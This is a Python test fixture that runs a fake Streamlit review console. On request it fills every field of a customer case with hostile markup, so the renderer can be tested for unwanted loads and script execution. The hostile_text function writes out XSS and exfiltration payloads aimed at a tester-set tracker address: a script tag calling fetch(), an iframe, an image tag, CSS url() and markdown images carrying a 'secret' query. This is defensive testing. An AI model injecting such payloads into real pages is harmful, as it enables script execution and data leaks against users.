"""The console over the fake office: ``uvicorn tests.browser.fake_console:app``.

``TRACKER`` puts hostile text that points at that address wherever outside text can stand;
``NO_POLICY`` leaves the security headers off, to try the renderer without its second wall.
"""

from __future__ import annotations

import os
from pathlib import Path

import streamlit as st
from starlette.middleware import Middleware

from core.models.review import Message
from pages.shell import server
from tests.fakes.fake_desk import a_desk
from tests.fakes.fake_office import FakeOffice
from tests.pages.builders import NOW, a_case
from tests.pages.view_builders import a_view, conflict_card, evidence_cards, left_out_cards


def hostile_text(tracker: str) -> str:
    """Everything that has ever made Streamlit load or run something."""
    return (
        f"![x]({tracker}/md?q=secret) ![y][ref] <img src='{tracker}/img'> "
        f"<iframe src='{tracker}/frame'></iframe> <script>fetch('{tracker}/js')</script> "
        f'<div style="background:url({tracker}/css)">x</div> [a link]({tracker}/link) '
        f"{tracker}/bare :red[colour] :material/home: costs $5 and $6 :smile:\n\n"
        f"[ref]: {tracker}/ref"
    )


def hostile_office(tracker: str) -> FakeOffice:
    """The coat case with hostile text in subject, messages, passages, claims and conflicts."""
    bad = hostile_text(tracker)
    case = a_case(
        subject=bad,
        customer_name=bad,
        messages=(Message(message_id="m1", author="customer", at=NOW, body=bad),),
    )
    conflict = conflict_card()
    told = conflict.conflict.model_copy(update={"side_a": bad, "side_b": bad, "resolution": bad})
    cards = tuple(
        c.model_copy(
            update={"text": bad, "title": bad, "section": bad, "quotes": (), "trust": (bad,)}
        )
        for c in evidence_cards()
    )
    left_out = tuple(
        c.model_copy(update={"text": bad, "title": bad, "reason": bad}) for c in left_out_cards()
    )
    view = a_view(
        case,
        evidence=cards,
        left_out=left_out,
        conflicts=(conflict.model_copy(update={"conflict": told, "quote_a": bad, "title_b": bad}),),
        banner=bad,
        approve_blocked_by=(bad, bad),
        what_would_change=(bad,),
        case_facts=(bad,),
        suggested_question=bad,
    )
    desk = a_desk(case)
    desk.views["1042"] = view
    return FakeOffice(the_desk=desk)


def _office() -> FakeOffice:
    tracker = os.environ.get("TRACKER")
    return hostile_office(tracker) if tracker else FakeOffice()


def _walls() -> list[Middleware]:
    walls = server.middleware()
    return walls[1:] if os.environ.get("NO_POLICY") else walls


app = st.App(
    Path(__file__).resolve().parents[2] / "app.py",
    routes=server.routes(),
    middleware=_walls(),
    lifespan=server.lifespan(_office),
)
